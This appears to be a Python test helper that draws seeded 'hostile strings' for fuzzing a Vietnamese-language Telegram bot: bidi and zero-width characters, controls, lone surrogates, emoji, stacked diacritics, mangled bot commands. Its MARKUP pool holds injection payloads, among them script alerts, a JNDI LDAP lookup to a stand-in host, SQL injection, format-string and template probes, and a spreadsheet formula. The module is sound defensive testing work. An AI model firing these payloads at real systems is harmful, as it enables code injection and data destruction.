"""Hostile strings: what a keyboard, a broken client or an attacker can put where a text is expected. Seeded."""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable, Iterator

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e"
CONTROLS = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
SURROGATES = "\ud800\udbff\udc00\udfff\ud83d\ude00"
EMOJI = ("👍", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇻🇳", "🇻🇳🇻", "❤️", "1️⃣", "🧑🏿‍🚒", "😀")
MARKUP = (
    "<b>đậm", "</b></i>", "<script>alert(1)</script>", "<a href='javascript:alert(1)'>bấm</a>", "&lt;&#0;&amp;amp;",
    "*_~`[", "[bấm](http://x.example/)", "\\_\\*", "||ẩn||", "```py\n", "{{ 7*7 }}", "${jndi:ldap://x.example/a}",
    "%s%n%x", "{0.__class__}", "'; DROP TABLE inbox; --", "=HYPERLINK(\"http://x.example\")", "@admin", "tg://user?id=1",
    "{ $code }", "\x1b[2J\x1b]0;x\x07",
)  # fmt: skip
COMMANDS = ("/trogiup", "/toi", "/hoi", "/khongco", "/", "//", "/start@", "/trogiup@bot_khac")
WORDS = (
    "xã",
    "hội chợ",
    "kinh phí",
    "chợ hạng 3",
    "Bộ Công Thương",
    "hỏi",
    "được không ạ",
    "Thất Khê",
    "nghị định 15",
)
SAMPLES = (
    "\u0000",
    "\ud800",
    "Ａ",
    "ﷺ",
    "𝔛",
    "i\u0307",
    "ﬁ",
    "\u1e9b\u0323",
    "ก็",
    "נְ",
    "서울",
    "\U0010ffff",
    "\uffff",
)
LONGEST = 3_900
"""Characters of an ordinary long one: what Telegram lets a person type, also when each of them is two units."""


class Texts:
    """Draws one after another."""

    def __init__(self, seed: int) -> None:
        self._dice = random.Random(seed)
        self._kinds: tuple[tuple[int, Callable[[], str]], ...] = (
            (6, self._mixed),
            (2, self._sprinkled),
            (2, self._decomposed),
            (1, self._stacked),
            (2, self._any_letters),
            (1, self._command),
            (1, self._long),
            (1, self._only_unwanted),
        )

    def draw(self, number: int) -> Iterator[str]:
        """So many."""
        weights = [weight for weight, _ in self._kinds]
        for _ in range(number):
            yield self._dice.choices(self._kinds, weights)[0][1]()

    def name(self) -> str:
        """What somebody may call himself."""
        text = next(self.draw(1))
        return self._dice.choice(
            (text[:300], "\u202e" + text[:60] + "\u2066", text[:40] * 40, "\u200f" * 70 + text[:9])
        )

    def _one(self, of: str | tuple[str, ...]) -> str:
        return self._dice.choice(of)

    def _piece(self) -> str:
        pools = (
            WORDS,
            WORDS,
            MARKUP,
            EMOJI,
            SAMPLES,
            BIDI,
            ZERO_WIDTH,
            CONTROLS,
            SURROGATES,
            ("\r\n", "\n", "\t", " "),
        )
        return self._one(self._dice.choice(pools))

    def _mixed(self) -> str:
        return self._one(("", " ")).join(self._piece() for _ in range(self._dice.randint(1, 30)))

    def _sprinkled(self) -> str:
        """A true sentence with something unwanted between its letters."""
        letters = list(" ".join(self._one(WORDS) for _ in range(self._dice.randint(3, 12))))
        for _ in range(self._dice.randint(1, 20)):
            letters.insert(self._dice.randint(0, len(letters)), self._one(BIDI + ZERO_WIDTH + CONTROLS + SURROGATES))
        return "".join(letters)

    def _decomposed(self) -> str:
        text = " ".join(self._one(WORDS) for _ in range(self._dice.randint(3, 40)))
        return unicodedata.normalize(self._dice.choice(("NFD", "NFKD")), text)

    def _stacked(self) -> str:
        marks = "".join(chr(self._dice.randint(0x300, 0x36F)) for _ in range(self._dice.randint(20, 1_500)))
        return f"{self._one(WORDS)}{marks}{self._one(WORDS)}"

    def _any_letters(self) -> str:
        return "".join(chr(self._dice.randrange(0x110000)) for _ in range(self._dice.randint(1, 200)))

    def _command(self) -> str:
        odd = self._one(("\u0000", "\u200b", "\u202e", "\ud800", "\n", "\r", " ", "\u3000", ""))
        command = self._one(COMMANDS)
        cut = self._dice.randint(0, len(command))
        return self._one((command[:cut] + odd + command[cut:], odd + command, command.replace("/", "／"))) + odd

    def _long(self) -> str:
        piece = self._one((self._one(EMOJI), self._one(WORDS) + " ", "a", "🇻🇳", "e\u0301", "\u200b", self._mixed()))
        return (piece * (LONGEST // max(1, len(piece)) + 1))[: self._dice.randint(1_000, LONGEST)]

    def _only_unwanted(self) -> str:
        return "".join(self._one(BIDI + CONTROLS + " \n\t") for _ in range(self._dice.randint(0, 30)))
